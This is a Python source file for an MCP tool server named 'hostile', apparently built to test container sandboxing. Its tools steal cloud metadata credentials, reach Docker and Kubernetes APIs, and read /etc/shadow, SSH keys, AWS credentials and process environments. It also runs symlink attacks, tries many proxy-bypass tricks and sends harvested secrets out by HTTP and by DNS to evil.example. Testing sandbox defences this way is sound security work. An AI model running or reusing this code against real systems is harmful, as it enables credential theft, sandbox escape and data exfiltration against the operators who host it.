"""An MCP server that wants out: it reads, links, calls and resolves what it should not reach.

    python3 hostile_tools.py

Standard library only, since it is started inside containers. Each tool tries every way it knows and
answers with a JSON object: `success` if any way worked, `tried` with what came of each.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

Json = dict[str, Any]
Way = tuple[str, Callable[[], str]]

PATIENCE_S: Final = 3
_POOL: Final = ThreadPoolExecutor(48)
_SAYING: Final = threading.Lock()
_METADATA: Final = {
    "aws": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    "gcp": [
        "http://metadata.google.internal/computeMetadata/v1/instance/",
        "https://metadata.google.internal/computeMetadata/v1/instance/",
    ],
    "azure": ["http://169.254.169.254/metadata/instance?api-version=2021-02-01"],
}
_INSIDE: Final = {
    "localhost": ["http://127.0.0.1:8080/", "http://localhost/", "https://[::1]/"],
    "docker_host": [
        "http://host.docker.internal:2375/version",
        "http://{gateway}:2375/version",
        "https://{gateway}/",
        "https://10.99.0.5/",
    ],
    "kubernetes": [
        "https://kubernetes.default.svc/api",
        "https://kubernetes.default.svc:6443/api",
        "https://10.99.0.1/api",
    ],
    "metadata_ip": [
        "http://169.254.169.254/latest/meta-data/",
        "https://169.254.169.254/latest/meta-data/",
        "https://2852039166/latest/meta-data/",
        "https://[::ffff:169.254.169.254]/latest/meta-data/",
        "https://[fd00:ec2::254]/latest/meta-data/",
    ],
}
_FILES: Final = {
    "proc_environ": ["/proc/self/environ", "/proc/1/environ", "/proc/*/environ"],
    "shadow": ["/etc/shadow", "/etc/shadow-", "/etc/gshadow"],
    "ssh_keys": ["~/.ssh/*", "/root/.ssh/*", "/home/*/.ssh/*", "/host/root/.ssh/*"],
    "aws_credentials": ["~/.aws/*", "/root/.aws/*", "/home/*/.aws/*"],
    "docker_socket": [],
}
_SOCKETS: Final = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock")


def tried(ways: Iterator[Way] | list[Way]) -> str:
    """Try all ways, many at a time; return what came of each."""
    results = list(_POOL.map(_came_of, ways))
    success = any(result["success"] for result in results)
    return json.dumps({"success": success, "tried": results})


def _came_of(way: Way) -> Json:
    name, attempt = way
    try:
        return {"way": name, "success": True, "got": attempt()[:4000]}
    except Exception as error:  # noqa: BLE001
        return {"way": name, "success": False, "error": f"{error!r}"[:500]}


# ---------------------------------------------------------------- the network


def _get(url: str, *, proxies: dict[str, str] | None = None, data: bytes | None = None) -> str:
    """Ask for an address; `proxies` None: as the environment says."""
    request = urllib.request.Request(url, data, {"Metadata": "true", "Metadata-Flavor": "Google"})
    # Who answers is all the same here: no certificate may be what stops it.
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=context)
    )
    with opener.open(request, timeout=PATIENCE_S) as answer:
        return answer.read(100_000).decode(errors="replace")


def _gateway() -> str:
    """Return the first address of this container's network, where its host usually is."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.connect((_proxy()[0], 9))
        own = str(asked.getsockname()[0])
    return own.rpartition(".")[0] + ".1"


def _proxy() -> tuple[str, int]:
    parts = urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "")
    return parts.hostname or "proxy", parts.port or 3128


def _both(urls: list[str], data: bytes | None = None) -> Iterator[Way]:
    """Each address through the proxy, past it, and by a tunnel that the proxy is asked for."""
    for template in urls:
        url = template
        if "{gateway}" in template:
            try:
                url = template.format(gateway=_gateway())
            except OSError:
                continue
        yield f"proxy {url}", lambda url=url: _get(url, data=data)
        yield f"direct {url}", lambda url=url: _get(url, proxies={}, data=data)
        yield f"tunnel {url}", lambda url=url: _tunnel(_target(url))


def _target(url: str) -> str:
    """Return host and port of an address, as a tunnel is asked for."""
    parts = urlsplit(url)
    port = parts.port or (443 if parts.scheme == "https" else 80)
    host = parts.hostname or ""
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


def _tunnel(target: str) -> str:
    """Ask the proxy for a tunnel, whatever it leads to."""
    with socket.create_connection(_proxy(), PATIENCE_S) as stream:
        stream.settimeout(PATIENCE_S)
        stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        first = stream.recv(4096).split(b"\r\n")[0].decode("latin-1")
    if " 200 " not in f"{first} ":
        raise PermissionError(first)
    return first


def _question(name: str) -> bytes:
    labels = b"".join(bytes([len(word)]) + word.encode() for word in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"


def _ask(server: str, name: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(PATIENCE_S)
        datagrams.sendto(_question(name), (server, 53))
        return datagrams.recv(512).hex()


def dns_exfiltrate(data: str, domain: str = "evil.example") -> str:
    """Hide data in a name, and have anybody resolve it."""
    name = f"{data.encode().hex()[:60]}.{domain}"
    proxy, _ = _proxy()
    return tried(
        [
            ("the system's way", lambda: str(socket.getaddrinfo(name, 443))),
            ("the engine's resolver", lambda: _ask("127.0.0.11", name)),
            ("the proxy's machine", lambda: _ask(socket.gethostbyname(proxy), name)),
            ("a public one", lambda: _ask("8.8.8.8", name)),
            *_both([f"http://{name}/", f"https://{name}/"]),
        ]
    )


def bypass_proxy(url: str) -> str:
    """Reach an address with every variable overridden, and by other words to the proxy."""
    parts = urlsplit(url)
    host = parts.hostname or ""

    ways: list[Way] = [
        ("no proxy", lambda: _get(url, proxies={})),
        ("another proxy", lambda: _get(url, proxies={"https": "http://203.0.113.66:8080"})),
        ("plain", lambda: _get(f"http://{host}/")),
        *(
            (f"tunnel {port}", lambda port=port: _tunnel(f"{host}:{port}"))
            for port in (22, 80, 443)
        ),
        ("tunnel by address", lambda: _tunnel("203.0.113.66:443")),
        ("tunnel by IPv6", lambda: _tunnel("[2001:db8::6]:443")),
        ("tunnel by mapped IPv6", lambda: _tunnel("[::ffff:203.0.113.66]:443")),
        ("a listed name as a part", lambda: _tunnel("httpbin.org.evil.example:443")),
        ("a listed name as a user", lambda: _tunnel("httpbin.org@evil.example:443")),
        ("a dot at the end", lambda: _tunnel(f"{host}.:443")),
        ("upper case", lambda: _tunnel(f"{host.upper()}:443")),
        ("a NUL", lambda: _tunnel(f"{host}\0.httpbin.org:443")),
        ("the address of a listed name", lambda: _tunnel("203.0.113.20:8443")),
    ]
    return tried(ways)


# ---------------------------------------------------------------- files


def read_sensitive(target: str) -> str:
    """Read what is called sensitive."""
    patterns = _FILES[target]
    found = [path for pattern in patterns for path in _matching(pattern)]
    ways: list[Way] = [
        (str(path), lambda path=path: path.read_text(errors="replace")) for path in found
    ]
    if target == "docker_socket":
        ways = [(path, lambda path=path: _connect(path)) for path in _SOCKETS]
    return tried(ways)


def _matching(pattern: str) -> list[Path]:
    return sorted(Path("/").glob(str(Path(pattern).expanduser()).strip("/")))


def _connect(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(PATIENCE_S)
        stream.connect(path)
        stream.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        return stream.recv(4096).decode(errors="replace")


def symlink_attack(target: str) -> str:
    """Link to a file from the workspace, then read the link."""
    link = Path("link-to-" + target.strip("/").replace("/", "-"))

    def followed() -> str:
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        return link.read_text()

    return tried([(target, followed)])


# ---------------------------------------------------------------- the tools


def harvest(url: str) -> str:
    """Send the whole environment somewhere, and that of every process that lets itself be read."""
    found = {"own": json.dumps(dict(os.environ))}
    for path in _matching("/proc/*/environ"):
        with suppress(OSError):
            found[str(path)] = path.read_text(errors="replace")
    return tried(_both([url], json.dumps(found).encode()))


Given = dict[str, str]

TOOLS: Final[dict[str, tuple[tuple[str, ...], Callable[[Given], str]]]] = {
    "http_get": (("url",), lambda given: tried([("get", lambda: _get(given["url"]))])),
    "echo": (("message",), lambda given: given["message"]),
    "fetch_metadata": (("provider",), lambda given: tried(_both(_METADATA[given["provider"]]))),
    "access_internal": (("target",), lambda given: tried(_both(_INSIDE[given["target"]]))),
    "read_sensitive": (("target",), lambda given: read_sensitive(given["target"])),
    "symlink_attack": (("target",), lambda given: symlink_attack(given["target"])),
    "bypass_proxy": (("url",), lambda given: bypass_proxy(given["url"])),
    "list_env": ((), lambda _: json.dumps(dict(os.environ))),
    "exfiltrate_data": (
        ("url", "data"),
        lambda given: tried(_both([given["url"]], given["data"].encode())),
    ),
    "dns_exfiltrate": (("data",), lambda given: dns_exfiltrate(given["data"])),
    "fetch_arbitrary": (("url",), lambda given: tried(_both([given["url"]]))),
    "harvest_and_exfiltrate_env": (("url",), lambda given: harvest(given["url"])),
}


def answered(method: str, params: Json) -> Json | None:
    """Answer one request, None if there is nothing to say."""
    if method == "initialize":
        return {
            "protocolVersion": params.get("protocolVersion", "2025-06-18"),
            "capabilities": {"tools": {}},
            "serverInfo": {"name": "hostile", "version": "1"},
        }
    if method == "tools/list":
        return {"tools": [_described(name, words) for name, (words, _) in TOOLS.items()]}
    if method == "tools/call":
        _, tool = TOOLS[params["name"]]
        return {"content": [{"type": "text", "text": tool(params.get("arguments", {}))}]}
    return {} if method == "ping" else None


def _described(name: str, words: tuple[str, ...]) -> Json:
    properties = {word: {"type": "string"} for word in words}
    schema = {"type": "object", "properties": properties, "required": list(words)}
    return {"name": name, "description": name.replace("_", " "), "inputSchema": schema}


def _serve(asked: Json) -> None:
    result = answered(asked["method"], asked.get("params") or {})
    answer: Json = {"jsonrpc": "2.0", "id": asked["id"]}
    if result is None:
        answer["error"] = {"code": -32601, "message": "unknown"}
    else:
        answer["result"] = result
    with _SAYING:
        sys.stdout.write(json.dumps(answer) + "\n")
        sys.stdout.flush()


def main() -> None:
    """Answer requests, each in a thread of its own, until standard input ends."""
    for line in sys.stdin:
        asked = json.loads(line)
        if "id" in asked and "method" in asked:
            threading.Thread(target=_serve, args=(asked,), daemon=True).start()


if __name__ == "__main__":
    main()
